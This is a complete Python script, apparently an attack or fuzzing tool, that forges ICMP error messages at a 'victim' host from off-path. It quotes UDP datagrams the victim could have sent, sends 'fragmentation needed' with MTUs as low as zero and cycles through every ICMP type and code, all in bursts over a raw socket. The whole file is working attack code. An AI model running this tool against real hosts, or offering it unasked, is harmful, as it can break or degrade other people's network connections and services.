#!/usr/bin/env python3
"""Forges ICMP about packets of another host, from a host that sees none of them.

    forger.py VICTIM [--needed] [--seconds 6] PORT>ADDRESS:PORT...

Each quote is a datagram that the victim could have sent, from its port to the address and port behind it. All kinds of
errors come in bursts, in turn; with --needed, "fragmentation needed" alone, with MTUs that nobody has. Root only.
"""

import argparse
import socket
import struct
import sys
import time

UNREACHABLE, NEEDED = 3, 4
KINDS = [(kind, code) for kind in (UNREACHABLE, 4, 5, 11, 12) for code in range(16)] + [(kind, 0) for kind in range(256)]
MTUS = (0, 68, 300, 552, 576, 1280)
BURST = 60  # more than a socket's owner reads in one turn
PAUSE_S = 0.002  # between bursts, so that the forger does not take the whole machine


def checksum(octets):
    octets += bytes(len(octets) % 2)
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def forge(kind, code, mtu, victim, quote):
    port, target = quote.split(">")
    address, target_port = target.split(":")
    quoted = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 1400, 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(victim),
                         socket.inet_aton(address))
    quoted = quoted[:10] + struct.pack(">H", checksum(quoted)) + quoted[12:]
    quoted += struct.pack(">HHHH", int(port), int(target_port), 1380, 0) + bytes(168)
    message = struct.pack(">BBHHH", kind, code, 0, 0, mtu) + quoted
    return message[:2] + struct.pack(">H", checksum(message)) + message[4:]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("victim")
    parser.add_argument("quotes", nargs="+", metavar="PORT>ADDRESS:PORT")
    parser.add_argument("--needed", action="store_true", help='"fragmentation needed" alone')
    parser.add_argument("--seconds", type=float, default=0, help="how long; all at least once (default 0)")
    options = parser.parse_args()
    kinds = [(UNREACHABLE, NEEDED, mtu) for mtu in MTUS] if options.needed else [(*kind, 576) for kind in KINDS]
    messages = [forge(*kind, options.victim, quote) for kind in kinds for quote in options.quotes]
    end = time.monotonic() + options.seconds
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        while sent == 0 or time.monotonic() < end:
            for message in messages:
                for _ in range(BURST):
                    out.sendto(message, (options.victim, 0))
                    sent += 1
                time.sleep(PAUSE_S)
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
